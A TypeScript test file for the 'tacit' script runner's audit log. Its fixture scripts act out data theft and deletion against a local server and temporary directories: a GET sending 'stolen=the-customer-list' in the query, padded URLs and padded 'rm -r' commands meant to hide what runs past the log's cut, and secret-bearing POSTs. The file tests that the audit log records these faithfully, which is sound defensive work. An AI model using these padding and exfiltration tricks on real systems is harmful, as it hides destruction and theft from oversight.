// What the audit log says of a command and of an HTTP request. Their patterns are the shapes
// approvals are kept by ("exec rm *", "net GET host"), which a seventh security review showed
// hide what was done: a script deleted deploy/prod.conf with `rm -f prod.conf` in deploy/, and the
// log of that real run said "exec rm *", nothing of the file or the directory (the same as `rm -f
// tmp.txt` in scratch/); it sent data in a URL's query, and the log said "net GET http://HOST".
// Each command's request now carries its words, where it ran and its input's digest, and each
// HTTP request its URL, its headers' names and its body's digest (never a secret).

import { createHash } from "node:crypto";
import { existsSync, mkdirSync, readFileSync, realpathSync, symlinkSync, writeFileSync } from "node:fs";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { runCli, unchecked } from "../helpers.js";
import { startServer, type TestServer } from "../net/fixtures.js";
import { auditHome, type Line, readLines, verifyJson, workAndLog } from "./fixtures.js";

const LONG = "x".repeat(10_000);

const SECRET = "secret-header-value-9d1c7e";
const CLASSIFIED = "classified-body-4b2a8f";
const CLASSIFIED_WRITE = "classified-write-71e0d2";
const CLASSIFIED_QUESTION = "classified-question-c39a55";

const SCRIPT = (origin: string) => `
requestNetwork(["127.0.0.1:*"], (net) => {
  net.httpGet("${origin}/collect?stolen=the-customer-list");
  net.httpRequest("POST", "${origin}/upload", { body: "plain body", headers: { "x-plain": "1", "x-other": "2" }, secretHeaders: { authorization: classify("${SECRET}") } });
  net.httpPostClassified("${origin}/vault", classify("${CLASSIFIED}"));
});
requestExecPermission(["rm", "printf", "cat"], (p) => {
  p.exec("rm", ["-f", "prod.conf"], { cwd: "deploy" });
  p.exec("rm", ["-f", "tmp.txt"], { cwd: "docs" });
  p.exec("printf", ["%s", "two words", "it's \\"quoted\\"\\nand broken"]);
  p.exec("printf", ["%s", ${JSON.stringify(LONG)}]);
  println(p.exec("cat", [], { input: "piped to cat" }).stdout);
});
requestFileSystem(".", (fs) => {
  fs.access("notes.txt").write("written content");
  fs.access("notes.txt").append(" and more");
  fs.access(".env.copy").writeClassified(classify("${CLASSIFIED_WRITE}"));
});
println(chat("asked question"));
println(chat(classify("${CLASSIFIED_QUESTION}")));
`;

const sha256 = (text: string) => `sha256:${createHash("sha256").update(text).digest("hex")}`;

describe("commands and requests in the audit log of a real tacit run", () => {
  let ctx: ReturnType<typeof auditHome>;
  let server: TestServer;
  let model: TestServer;
  let work: string;
  let log: string;
  let commands: Line["event"][];
  let requests: Line["event"][];
  let contents: Line["event"][];

  beforeAll(async () => {
    ctx = auditHome();
    server = await startServer();
    model = await startServer((_request, response) => {
      response.setHeader("content-type", "application/json");
      response.end(JSON.stringify({ choices: [{ message: { content: "the answer" } }] }));
    });
    ({ work, log } = workAndLog(ctx.dir));
    for (const dir of ["deploy", "scratch"]) mkdirSync(path.join(work, dir));
    writeFileSync(path.join(work, "deploy", "prod.conf"), "keep\n");
    writeFileSync(path.join(work, "scratch", "tmp.txt"), "scratch\n");
    // docs leads to scratch: the record names where the command really ran.
    symlinkSync("scratch", path.join(work, "docs"));
    writeFileSync(path.join(work, "script.ts"), SCRIPT(server.origin));
    const llm = ["--llm-base-url", `${model.origin}/v1`, "--llm-api-key", "sk-test-action-record-0000", "--llm-model", "m"];
    // A secure output outside the work directory: printing the classified chat's answer there waits
    // for it, so the model is asked before the script ends. With no secure output the value is
    // printed nowhere, and a classified chat still waiting when the evaluation ends is never asked
    // (monitor.ts, ChatClassified): the setup's check below that the model got the question failed
    // in about 1 run of 3 on a loaded machine.
    const sink = path.join(ctx.dir, "secure-output.txt");
    const args = ["run", "--audit-log", log, "--secure-output", sink, "--command-permissions", "rm,printf,cat", "--network-permissions", `127.0.0.1:${server.port}`, ...llm, "script.ts"];
    const run = await runCli(args, { cwd: work, env: ctx.env });
    expect(run.stderr).toBe("");
    expect(run.code).toBe(0);
    // The secure output gets everything printed, the classified answer in plaintext among it.
    expect(readFileSync(sink, "utf8")).toBe("piped to cat\nthe answer\nthe answer\n");
    expect(run.stdout).toContain("piped to cat");
    // The script really deleted both files (so the log had something to hide).
    expect(existsSync(path.join(work, "deploy", "prod.conf"))).toBe(false);
    expect(existsSync(path.join(work, "scratch", "tmp.txt"))).toBe(false);
    // The requests really went out, the secrets with them.
    expect(server.received.map((request) => request.url)).toEqual(["/collect?stolen=the-customer-list", "/upload", "/vault"]);
    expect(server.received[1]?.headers.authorization).toBe(SECRET);
    expect(server.received[2]?.body).toBe(CLASSIFIED);
    // The writes and the questions really happened.
    expect(readFileSync(path.join(work, "notes.txt"), "utf8")).toBe("written content and more");
    expect(readFileSync(path.join(work, ".env.copy"), "utf8")).toBe(CLASSIFIED_WRITE);
    expect(model.received.map((request) => request.body).join("\n")).toContain(CLASSIFIED_QUESTION);
    const requested = (kinds: string[]) => readLines(log).flatMap((line) => (line.event.type === "action-requested" && kinds.includes(String(line.event.kind)) ? [line.event] : []));
    commands = requested(["Exec"]);
    requests = requested(["HttpRequest", "HttpRequestClassified"]);
    contents = requested(["FsWrite", "FsWriteClassified", "Chat", "ChatClassified"]);
  }, 60_000);
  afterAll(async () => {
    await server.close();
    await model.close();
    ctx.cleanup();
  });

  it("names what each command was given and where it ran, not only its shape", () => {
    const real = realpathSync(work);
    expect(commands).toHaveLength(5);
    const [deploy, docs] = commands;
    // The same pattern, two different deletions: the record tells them apart.
    expect(deploy).toMatchObject({ pattern: "exec rm *", commandLine: "rm -f prod.conf", cwd: path.join(real, "deploy"), input: null });
    expect(docs).toMatchObject({ pattern: "exec rm *", commandLine: "rm -f tmp.txt", cwd: path.join(real, "scratch"), input: null });
    expect(deploy!.commandDigest).toBe(sha256(JSON.stringify(["rm", "-f", "prod.conf"])));
  });

  it("shows a word that is not plain as a JSON string, so it cannot read as several words", () => {
    expect(commands[2]).toMatchObject({ commandLine: `printf %s "two words" ${JSON.stringify("it's \"quoted\"\nand broken")}`, cwd: realpathSync(work) });
  });

  it("cuts a long command line, its digest still covering every word, and records standard input by its digest", () => {
    const long = commands[3]!;
    expect(String(long.commandLine)).toBe(`printf %s ${LONG.slice(0, 8192 - "printf %s ".length)}… (${"printf %s ".length + LONG.length - 8192} characters more)`);
    expect(long.commandDigest).toBe(sha256(JSON.stringify(["printf", "%s", LONG])));
    expect(commands[4]).toMatchObject({ commandLine: "cat", input: sha256("piped to cat") });
    expect(JSON.stringify(commands[4])).not.toContain("piped to cat");
  });

  it("names each request's URL as sent, its headers' names and its body's digest, and never a secret", () => {
    const url = (p: string) => `${server.origin}${p}`;
    expect(requests).toHaveLength(3);
    expect(requests[0]).toMatchObject({ pattern: `net GET http://127.0.0.1:${server.port}`, url: url("/collect?stolen=the-customer-list"), body: null, headers: "", secretHeaders: "" });
    expect(requests[1]).toMatchObject({ url: url("/upload"), body: sha256("plain body"), headers: "x-plain x-other", secretHeaders: "authorization" });
    // What the headers carried, by digest: their names alone made "x-plain: 1" and "x-plain: <the customer list>" one record.
    expect(requests[1]!.headersDigest).toBe(sha256(JSON.stringify([["x-plain", "1"], ["x-other", "2"]])));
    expect(requests[0]!.headersDigest).toBeUndefined();
    expect(requests[2]).toMatchObject({ kind: "HttpRequestClassified", url: url("/vault"), body: "classified" });
    const text = readFileSync(log, "utf8");
    for (const secret of [SECRET, CLASSIFIED]) {
      expect(text).not.toContain(secret);
      expect(text).not.toContain(sha256(secret));
    }
  });

  it("names what a write puts in a file and what chat asks by their digest, a classified value only as being one", () => {
    // An append says so: a write and an append of the same text are not the same change to a file.
    expect(contents.map((event) => [event.kind, event.content, event.append])).toEqual([
      ["FsWrite", sha256("written content"), undefined],
      ["FsWrite", sha256(" and more"), true],
      ["FsWriteClassified", "classified", undefined],
      ["Chat", sha256("asked question"), undefined],
      ["ChatClassified", "classified", undefined],
    ]);
    const text = readFileSync(log, "utf8");
    for (const secret of [CLASSIFIED_WRITE, CLASSIFIED_QUESTION]) {
      expect(text).not.toContain(secret);
      expect(text).not.toContain(sha256(secret));
    }
  });

  it("verifies, and tacit audit show prints each command's line and directory and each request's URL", async () => {
    const { result, report } = await verifyJson(log, ctx.env);
    expect(result.code, result.stdout).toBe(0);
    expect(report).toMatchObject({ ok: true, problems: [] });
    const shown = await runCli(["audit", "show", log], { env: ctx.env });
    expect(shown.code).toBe(0);
    expect(shown.stdout).toContain(`"exec rm *"  tier allow  run: rm -f prod.conf (in ${JSON.stringify(path.join(realpathSync(work), "deploy"))})`);
    expect(shown.stdout).toContain(`run: cat (in ${JSON.stringify(realpathSync(work))}, input ${sha256("piped to cat").slice(0, 19)}…)`);
    expect(shown.stdout).toContain(`url: "${server.origin}/collect?stolen=the-customer-list"`);
    const headersDigest = sha256(JSON.stringify([["x-plain", "1"], ["x-other", "2"]])).slice(0, 19);
    expect(shown.stdout).toContain(`url: "${server.origin}/upload", headers x-plain x-other (${headersDigest}…), secret headers authorization, body ${sha256("plain body").slice(0, 19)}…`);
    expect(shown.stdout).toMatch(new RegExp(`url: "${server.origin}/vault"(, headers [a-z- ]+ \\(sha256:[0-9a-f]{12}…\\))?, body classified\\n`));
    expect(shown.stdout).toContain(`tier allow  content ${sha256("written content").slice(0, 19)}…`);
    expect(shown.stdout).toContain(`tier allow  appends content ${sha256(" and more").slice(0, 19)}…`);
    expect(shown.stdout).toMatch(/ChatClassified {2}"chat classified" {2}tier allow {2}content classified\n/);
  });
});

describe("a command padded past the cut of its line", () => {
  it("has every word in the log when it runs, and does not run when it has more than the log records whole", async () => {
    const ctx = auditHome();
    try {
      const { work, log } = workAndLog(ctx.dir);
      mkdirSync(path.join(work, "important"));
      writeFileSync(path.join(work, "important", "db"), "data\n");
      const pad = Array.from({ length: 3000 }, () => "-v");
      // 2.2 million characters in 20 words, each short enough for the system to take.
      const script =
        `const pad = Array.from({ length: 3000 }, () => "-v");\n` +
        `requestExecPermission(["rm", "echo"], (p) => {\n` +
        `  println("rm exit", p.exec("rm", [...pad, "-r", "important"]).exitCode);\n` +
        `  try { p.exec("echo", Array.from({ length: 20 }, () => "y".repeat(110000))); } catch (e) { println(String(e)); }\n` +
        `});\n`;
      const run = await runCli(unchecked(["run", "--audit-log", log, "--command-permissions", "rm,echo", "-"]), { cwd: work, env: ctx.env, input: script });
      expect(run.code, run.stderr).toBe(0);
      // The padded rm ran, and deleted the directory its line's cut hides.
      expect(run.stdout).toContain("rm exit 0");
      expect(existsSync(path.join(work, "important"))).toBe(false);
      const [rm, echo] = readLines(log).flatMap((line) => (line.event.type === "action-requested" && line.event.kind === "Exec" ? [line.event] : []));
      expect(String(rm!.commandLine)).toMatch(/^rm -v -v .*… \(\d+ characters more\)$/);
      expect(rm!.commandWords).toEqual(["rm", ...pad, "-r", "important"]);
      expect(rm!.commandDigest).toBe(sha256(JSON.stringify(["rm", ...pad, "-r", "important"])));
      // More than is recorded whole is not run, and says what to do instead.
      expect(run.stdout).toMatch(/Error: exec\("echo"\): its words hold 2200004 characters, more than a command is given .*Pass long data on standard input/);
      expect(echo!.commandWords).toBeUndefined();
      const shown = await runCli(["audit", "show", log], { env: ctx.env });
      expect(shown.stdout).toContain("; every word in --json)");
      expect((await verifyJson(log, ctx.env)).result.code).toBe(0);
    } finally {
      ctx.cleanup();
    }
  }, 30_000);
});

describe("a URL padded past the cut of its record", () => {
  it("is in the log whole, the data it sent after the padding included", async () => {
    const ctx = auditHome();
    const server = await startServer();
    try {
      const log = path.join(ctx.dir, "audit.jsonl");
      const url = `${server.origin}/c?pad=${"x".repeat(9000)}&stolen=the-customer-list`;
      const script = `requestNetwork(["127.0.0.1:*"], (net) => net.httpGet(${JSON.stringify(url)}));\n`;
      const run = await runCli(unchecked(["run", "--audit-log", log, "--network-permissions", "127.0.0.1:*", "-"]), { cwd: ctx.dir, env: ctx.env, input: script });
      expect(run.code, run.stderr).toBe(0);
      // The data went out after the padding.
      expect(server.received.map((request) => request.url)).toEqual([url.slice(server.origin.length)]);
      const request = readLines(log).find((line) => line.event.type === "action-requested" && line.event.kind === "HttpRequest")!.event;
      expect(String(request.url)).toMatch(/x… \(\d+ characters more\)$/);
      expect(request.wholeUrl).toBe(url);
      const shown = await runCli(["audit", "show", log], { env: ctx.env });
      expect(shown.stdout).toContain("characters more)\" (cut; the whole URL in --json)");
      expect((await verifyJson(log, ctx.env)).result.code).toBe(0);
    } finally {
      await server.close();
      ctx.cleanup();
    }
  }, 30_000);
});
